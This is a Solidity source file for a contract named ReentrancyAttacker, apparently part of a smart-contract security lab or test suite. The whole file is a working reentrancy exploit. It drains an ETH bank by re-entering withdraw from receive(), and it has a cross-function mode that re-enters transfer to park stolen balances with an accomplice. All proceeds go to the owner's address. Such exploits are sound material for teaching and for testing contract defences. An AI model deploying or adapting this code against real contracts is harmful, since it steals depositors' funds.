// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// @title IReentrancyBank
/// @notice The ETH bank surface the reentrancy attacker needs.
interface IReentrancyBank {
    function deposit() external payable;
    function withdraw(uint256 amount) external;
    function withdrawAll() external;
    function transfer(address to, uint256 amount) external;
    function balanceOf(address account) external view returns (uint256);
}

/// @title ReentrancyAttacker
/// @notice Re-creates The DAO (2016) drain: deposit a stake, withdraw it, and
/// from `receive()` re-enter `withdraw` while the bank still shows the stake,
/// until the bank is empty. A second mode re-enters `transfer` during
/// `withdrawAll` instead (the cross-function variant seen at Rari Capital,
/// 2022), parking the not-yet-debited balance with an accomplice.
/// Everything gained is forwarded to the owner EOA before the call returns.
contract ReentrancyAttacker {
    /// @notice The EOA that deployed this contract and receives the loot.
    address public immutable owner;

    /// @dev Attack in progress: the bank and the stake re-withdrawn each time.
    IReentrancyBank private bank;
    uint256 private stake;
    /// @dev 1 = re-enter withdraw, 2 = re-enter transfer to `accomplice`.
    uint256 private mode;
    address private accomplice;
    /// @notice How many times the last attack re-entered the bank.
    uint256 public reentries;

    /// @notice The caller is not the owner.
    error NotOwner();
    /// @notice The attack yielded nothing.
    error NoProfit(uint256 balance, uint256 stake);
    /// @notice Forwarding the loot failed.
    error PayoutFailed();

    constructor() {
        owner = msg.sender;
    }

    /// @notice Deposits msg.value into `target` and drains it by re-entering
    /// `withdraw` from `receive()`; sends everything to the owner.
    /// @param target The bank.
    function attack(IReentrancyBank target) external payable {
        if (msg.sender != owner) revert NotOwner();
        bank = target;
        stake = msg.value;
        mode = 1;
        reentries = 0;
        target.deposit{value: msg.value}();
        target.withdraw(msg.value);
        _finish(true);
    }

    /// @notice Deposits msg.value into `target`, calls `withdrawAll` and, from
    /// `receive()`, transfers the stale balance to `partner` (cross-function
    /// reentrancy). The partner can withdraw it afterwards.
    /// @param target The bank.
    /// @param partner The accomplice credited with the duplicated balance.
    function attackCrossFunction(IReentrancyBank target, address partner) external payable {
        if (msg.sender != owner) revert NotOwner();
        bank = target;
        stake = msg.value;
        mode = 2;
        accomplice = partner;
        reentries = 0;
        target.deposit{value: msg.value}();
        target.withdrawAll();
        // The gain sits with the accomplice as a bank balance.
        _finish(false);
    }

    /// @notice Re-entry point: runs inside the bank's withdrawal call.
    receive() external payable {
        if (msg.sender != address(bank)) return;
        if (mode == 1) {
            uint256 left = address(bank).balance;
            if (left == 0) return;
            reentries++;
            bank.withdraw(left < stake ? left : stake);
        } else if (mode == 2) {
            mode = 0;
            reentries++;
            bank.transfer(accomplice, stake);
        }
    }

    function _finish(bool requireProfit) private {
        mode = 0;
        bank = IReentrancyBank(address(0));
        uint256 bal = address(this).balance;
        if (requireProfit && bal <= stake) revert NoProfit(bal, stake);
        (bool ok,) = owner.call{value: bal}("");
        if (!ok) revert PayoutFailed();
    }
}
